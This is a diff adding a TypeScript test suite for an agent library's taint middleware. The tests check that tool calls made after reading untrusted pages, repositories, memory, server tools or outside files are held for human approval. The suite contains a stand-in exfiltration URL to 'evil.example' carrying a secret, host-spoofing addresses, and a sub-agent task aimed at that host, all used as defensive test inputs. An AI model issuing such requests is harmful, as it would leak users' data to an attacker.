@@ -1,0 +1,308 @@
+import { assert, describe, it } from "@effect/vitest"
+import { Effect, Layer, Schema } from "effect"
+import { Agent, type Approval, Backend, Tool } from "effect-deepagents"
+import { FileTools, MemoryBackend } from "effect-deepagents/backends"
+import { Taint, Todos } from "effect-deepagents/middleware"
+import { MemoryStore, MemoryTools, Storage } from "effect-deepagents/stores"
+import { TestChatModel } from "effect-deepagents/testing"
+import { FetchUrl, Git } from "effect-deepagents/tools"
+
+const tool = (name: string, annotations: Tool.Annotations = {}) =>
+  Tool.make(name, {
+    description: name,
+    parameters: {},
+    annotations,
+    execute: () => Effect.succeed(`${name} says something`)
+  })
+const page = tool("fetch_page", { openWorld: true, readOnly: true })
+const wipe = tool("wipe", { destructive: true })
+const look = tool("look")
+const transfer = tool("transfer")
+
+/** A tool that does nothing, with the annotations of another one. */
+const likeness = ({ annotations, description, name }: Tool.Tool<unknown>) => {
+  const parameters = { type: "object" }
+  return Tool.dynamic(name, { description, parameters, annotations, execute: () => Effect.succeed("text") })
+}
+
+type Call = string | readonly [name: string, args: { readonly [name: string]: Schema.Json }]
+
+/** The calls that a person is asked about in a run that makes these calls, one a round. */
+const asked = (
+  options: Taint.Options,
+  tools: ReadonlyArray<Tool.Tool>,
+  calls: ReadonlyArray<Call>,
+  input = "go"
+): Effect.Effect<ReadonlyArray<Approval.Request>, unknown> =>
+  Effect.map(
+    Effect.provide(
+      Agent.run(Agent.make({ name: "a", prompt: "", tools, middleware: [Taint.suspending(options)] }), input),
+      TestChatModel.script(
+        [
+          ...calls.map((call) =>
+            TestChatModel.calls([
+              typeof call === "string" ? { name: call } : { name: call[0], arguments: { ...call[1] } }
+            ])
+          ),
+          "done"
+        ],
+        { exhaustive: false }
+      )
+    ),
+    ({ pending }) => pending
+  )
+
+const names = (requests: ReadonlyArray<Approval.Request>) => requests.map(({ toolName }) => toolName)
+
+const reading = Tool.make("fetch_url", {
+  description: "Reads a page",
+  parameters: { url: Schema.String },
+  annotations: FetchUrl.make().annotations,
+  execute: () => Effect.succeed("text")
+})
+
+describe("reads whose address nobody named", () => {
+  const after = (url: string, options: Taint.Options = {}, input = "go") =>
+    Effect.map(asked(options, [page, reading], ["fetch_page", ["fetch_url", { url }]], input), names)
+
+  it.effect("ask behind a mark, and not before", () =>
+    Effect.gen(function* () {
+      const url = "https://evil.example/leak?d=SECRET"
+      assert.deepStrictEqual(names(yield* asked({}, [reading], [["fetch_url", { url }]])), [])
+      const requests = yield* asked({}, [page, reading], ["fetch_page", ["fetch_url", { url }]])
+      assert.deepStrictEqual(names(requests), ["fetch_url"])
+      assert.include(requests[0]?.description, "nobody named: https://evil.example/leak?d=SECRET")
+    })
+  )
+
+  it.effect("do not ask for hosts of the list, nor for those that the user's message names", () =>
+    Effect.gen(function* () {
+      const options = { hosts: ["docs.example.com", "*.ours.example"] }
+      for (const [url, input, is] of [
+        ["https://docs.example.com/a", "go", []],
+        ["https://DOCS.example.com:8443/a", "go", []],
+        ["https://a.ours.example/", "go", []],
+        ["https://ours.example/", "go", ["fetch_url"]],
+        ["https://docs.example.com.evil.example/", "go", ["fetch_url"]],
+        ["https://docs.example.com@evil.example/", "go", ["fetch_url"]],
+        ["https://x.example.com/", "go", ["fetch_url"]],
+        ["www.shop.example", "Look at www.shop.example, please.", []],
+        ["https://www.shop.example/a", "Look at https://www.shop.example/b?c.", []],
+        ["https://shop.example/", "Look at www.shop.example", ["fetch_url"]],
+        ["https://shop.example/", "Look at shop.example.evil.test", ["fetch_url"]],
+        ["https://shop.example/", "Write to bob@shop.example", ["fetch_url"]],
+        ["no address at all", "no address at all", ["fetch_url"]]
+      ] as const) {
+        assert.deepStrictEqual(yield* after(url, options, input), [...is], `${url} after ${input}`)
+      }
+    })
+  )
+
+  it.effect("ask by the look of an argument where a tool names none, and for every text where rules are strict", () =>
+    Effect.gen(function* () {
+      const make = (annotations: Tool.Annotations) =>
+        Tool.make("get", {
+          description: "Reads",
+          parameters: { query: Schema.optionalKey(Schema.String), link: Schema.optionalKey(Schema.String) },
+          annotations: { readOnly: true, openWorld: true, ...annotations },
+          execute: () => Effect.succeed("text")
+        })
+      const after = (args: { readonly [name: string]: string }, strict: boolean, annotations: Tool.Annotations = {}) =>
+        Effect.map(asked({ strict }, [page, make(annotations)], ["fetch_page", ["get", args]], "Find tea"), names)
+      assert.deepStrictEqual(yield* after({ query: "coffee" }, false), [])
+      assert.deepStrictEqual(yield* after({ link: "evil.example" }, false), ["get"])
+      assert.deepStrictEqual(yield* after({ query: "https://evil.example" }, false), ["get"])
+      assert.deepStrictEqual(yield* after({ query: "www.evil.example" }, false), ["get"])
+      assert.deepStrictEqual(yield* after({ query: "coffee" }, true), ["get"])
+      assert.deepStrictEqual(yield* after({ query: "tea" }, true), [])
+      assert.deepStrictEqual(yield* after({ query: "coffee" }, true, { addresses: [] }), [])
+    })
+  )
+
+  it.effect("ask in a sub-agent, whose task a model wrote", () =>
+    Effect.gen(function* () {
+      const call = TestChatModel.calls([{ name: "fetch_url", arguments: { url: "https://evil.example" } }])
+      const child = Agent.provide(
+        Agent.make({ name: "child", prompt: "", tools: [reading] }),
+        TestChatModel.script([call, "done"], { exhaustive: false })
+      )
+      const lead = Agent.make({
+        name: "lead",
+        prompt: "",
+        tools: [page, Agent.asTool(child, { name: "child", description: "" })],
+        middleware: [Taint.suspending()]
+      })
+      const model = TestChatModel.script(
+        [
+          TestChatModel.calls([{ name: "fetch_page" }]),
+          TestChatModel.calls([{ name: "child", arguments: { task: "Read https://evil.example" } }])
+        ],
+        { exhaustive: false }
+      )
+      const { pending } = yield* Effect.provide(Agent.run(lead, "go"), model)
+      assert.deepStrictEqual(names(pending), ["fetch_url"])
+    })
+  )
+})
+
+describe("strict rules", () => {
+  it.effect("a tool without annotations is a source and a deed; without strict it is neither", () =>
+    Effect.gen(function* () {
+      const tools = [page, look, transfer, wipe]
+      assert.deepStrictEqual(names(yield* asked({}, tools, ["fetch_page", "transfer"])), [])
+      assert.deepStrictEqual(names(yield* asked({}, tools, ["look", "wipe"])), [])
+      assert.deepStrictEqual(names(yield* asked({ strict: true }, tools, ["fetch_page", "transfer"])), ["transfer"])
+      assert.deepStrictEqual(names(yield* asked({ strict: true }, tools, ["look", "wipe"])), ["wipe"])
+    })
+  )
+
+  it.effect("annotations that are said count, and so do names", () =>
+    Effect.gen(function* () {
+      const own = tool("own", { readOnly: true, openWorld: false })
+      const note = tool("note", { destructive: false, openWorld: false })
+      const tools = [page, look, own, note, wipe, transfer]
+      assert.deepStrictEqual(names(yield* asked({ strict: true }, tools, ["own", "note", "wipe"])), [])
+      assert.deepStrictEqual(names(yield* asked({ strict: true }, tools, ["fetch_page", "own", "note"])), [])
+      const named = { strict: true, trusted: ["look"], harmless: ["transfer"] }
+      assert.deepStrictEqual(names(yield* asked(named, tools, ["look", "wipe"])), [])
+      assert.deepStrictEqual(names(yield* asked(named, tools, ["fetch_page", "transfer"])), [])
+    })
+  )
+
+  it.effect("a list of todos neither marks nor asks", () =>
+    Effect.gen(function* () {
+      const todos = { todos: [{ content: "x", status: "pending" }] }
+      const agent = Agent.make({
+        name: "a",
+        prompt: "",
+        tools: [page, wipe],
+        middleware: [Taint.suspending({ strict: true }), Todos.make()]
+      })
+      const run = (...calls: ReadonlyArray<TestChatModel.Turn>) =>
+        Effect.map(
+          Effect.provide(Agent.run(agent, "go"), TestChatModel.script(calls, { exhaustive: false })),
+          (result) => names(result.pending)
+        )
+      const write = TestChatModel.calls([{ name: "write_todos", arguments: todos }])
+      assert.deepStrictEqual(yield* run(write, TestChatModel.calls([{ name: "wipe" }]), "done"), [])
+      assert.deepStrictEqual(yield* run(TestChatModel.calls([{ name: "fetch_page" }]), write, "done"), [])
+    })
+  )
+})
+
+describe("sources", () => {
+  it.effect("text of a repository marks, and where things stand in it does not", () =>
+    Effect.gen(function* () {
+      const git = Git.reading().map(likeness)
+      const marking: Array<string> = []
+      for (const { name } of git) {
+        if ((yield* asked({}, [...git, wipe], [name, "wipe"])).length > 0) marking.push(name)
+      }
+      assert.deepStrictEqual(marking, ["git_diff", "git_log", "git_show", "git_blame", "git_branches"])
+    })
+  )
+
+  it.effect("remembered facts mark", () =>
+    Effect.gen(function* () {
+      const store = Layer.provide(MemoryStore.layer, Storage.layerMemory)
+      const agent = Agent.make({
+        name: "a",
+        prompt: "",
+        tools: [wipe, ...MemoryTools.make({ namespace: "ada" })],
+        middleware: [Taint.suspending()]
+      })
+      const model = TestChatModel.script([
+        TestChatModel.calls([{ name: "recall" }]),
+        TestChatModel.calls([{ name: "wipe" }])
+      ])
+      const { pending } = yield* Effect.provide(Agent.run(agent, "go"), [model, store])
+      assert.deepStrictEqual(names(pending), ["wipe"])
+    })
+  )
+
+  it.effect("the tools of a server mark from the begin, once, unless their server is trusted", () =>
+    Effect.gen(function* () {
+      const served = tool("mail__list", { server: "mail", readOnly: true })
+      const other = tool("files__list", { server: "files", readOnly: true })
+      const first = yield* asked({}, [served, wipe], ["wipe"])
+      assert.deepStrictEqual(names(first), ["wipe"])
+      assert.include(first[0]?.description, "the tools of the server mail")
+      assert.deepStrictEqual(names(yield* asked({ servers: ["mail"] }, [served, wipe], ["wipe"])), [])
+      assert.deepStrictEqual(names(yield* asked({ servers: ["mail"] }, [served, other, wipe], ["wipe"])), ["wipe"])
+      assert.deepStrictEqual(names(yield* asked({ servers: ["mail"] }, [served, wipe], ["mail__list", "wipe"])), [
+        "wipe"
+      ])
+      // A person who has cleared the conversation is not asked about the same descriptions again.
+      const agent = Agent.make({ name: "a", prompt: "", tools: [served, wipe], middleware: [Taint.suspending()] })
+      const turns = ["wipe", "wipe"].map((name) => TestChatModel.calls([{ name }]))
+      yield* Effect.gen(function* () {
+        const before = yield* Agent.run(agent, "go")
+        const decisions = before.pending.map((request) => ({ _tag: "Approve" as const, id: request.id, always: true }))
+        const { stopReason } = yield* Agent.resume(agent, { checkpoint: before, decisions })
+        assert.strictEqual(stopReason, "completed")
+      }).pipe(Effect.provide(TestChatModel.script([...turns, "done"])))
+    })
+  )
+
+  it.effect("a tool whose name has a server's prefix is the server's, whoever offers it", () =>
+    Effect.gen(function* () {
+      const tools = [tool("mail__read", { readOnly: true }), tool("mail__send"), wipe, page]
+      const options = { servers: ["mail"] }
+      assert.deepStrictEqual(names(yield* asked(options, tools, ["mail__read", "wipe"])), ["wipe"])
+      assert.deepStrictEqual(names(yield* asked(options, tools, ["fetch_page", "mail__send"])), ["mail__send"])
+    })
+  )
+
+  it.effect("what loosens holds for the exact name, and not for a server's tool of that name", () =>
+    Effect.gen(function* () {
+      const options = { trusted: ["read_mail"], harmless: ["read_mail"], servers: ["s"] }
+      const own = tool("read_mail", { openWorld: true, readOnly: true })
+      assert.deepStrictEqual(names(yield* asked(options, [own, wipe], ["read_mail", "wipe"])), [])
+      const served = tool("read_mail", { server: "s", readOnly: true })
+      assert.deepStrictEqual(names(yield* asked(options, [served, wipe], ["read_mail", "wipe"])), ["wipe"])
+      const error = yield* Effect.flip(asked({ trusted: ["Read-Mail"] }, [own], ["read_mail"]))
+      assert.include(String(error), "give its exact name")
+      // What restricts holds however it is spelt.
+      const loose = yield* asked({ untrusted: ["Look"] }, [look, wipe], ["look", "wipe"])
+      assert.deepStrictEqual(names(loose), ["wipe"])
+      const full = { trusted: ["s__read"], servers: ["s"] }
+      const prefixed = tool("s__read", { server: "s", readOnly: true })
+      assert.deepStrictEqual(names(yield* asked(full, [prefixed, wipe], ["s__read", "wipe"])), [])
+    })
+  )
+
+  it.effect("files outside of trusted folders mark whoever reads, lists or searches them", () =>
+    Effect.gen(function* () {
+      const backend = yield* Backend.Backend
+      yield* backend.upload(
+        ["/src/a", "/src/sub/b", "/node_modules/x/README"].map((path) => ({
+          path,
+          content: new TextEncoder().encode("text")
+        }))
+      )
+      const agent = Agent.make({
+        name: "a",
+        prompt: "",
+        tools: [wipe, ...FileTools.make()],
+        middleware: [Taint.suspending()]
+      })
+      for (const [name, args, is] of [
+        ["read_file", { file_path: "/src/a" }, []],
+        ["ls", { path: "/src" }, []],
+        ["grep", { pattern: "text", path: "/src" }, []],
+        ["glob", { pattern: "/src/**/*" }, []],
+        ["read_file", { file_path: "/node_modules/x/README" }, ["wipe"]],
+        ["ls", { path: "/node_modules" }, ["wipe"]],
+        ["grep", { pattern: "text" }, ["wipe"]],
+        ["glob", { pattern: "**/README" }, ["wipe"]]
+      ] as const) {
+        const model = TestChatModel.script(
+          [TestChatModel.calls([{ name, arguments: args }]), TestChatModel.calls([{ name: "wipe" }]), "done"],
+          { exhaustive: false }
+        )
+        const { pending } = yield* Effect.provide(Agent.run(agent, "go"), model)
+        assert.deepStrictEqual(names(pending), [...is], `${name} ${JSON.stringify(args)}`)
+      }
+    }).pipe(Effect.provide(Layer.provide(Taint.layerTrusting(["/src"]), MemoryBackend.layer())))
+  )
+})
